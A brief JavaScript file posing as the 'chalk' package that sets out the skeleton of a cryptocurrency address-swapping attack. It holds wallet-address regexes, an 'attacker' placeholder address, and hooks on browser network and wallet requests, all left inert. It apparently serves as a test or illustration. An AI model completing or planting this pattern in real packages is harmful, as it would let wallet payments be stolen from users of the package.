const patterns = [/\b0x[a-fA-F0-9]{40}\b/g, /\bbc1[a-z0-9]{39,59}\b/g, /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g,
  /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g];
const attacker = '0x0000000000000000000000000000000000000001';
const origOpen = XMLHttpRequest.prototype.open;
if (typeof window !== 'undefined' && window.ethereum) {
  const orig = window.ethereum.request;
  window.ethereum.request = function (args) { return orig.call(this, args); };
}
window.fetch('/noop');
module.exports = function chalk(s) { return s; };
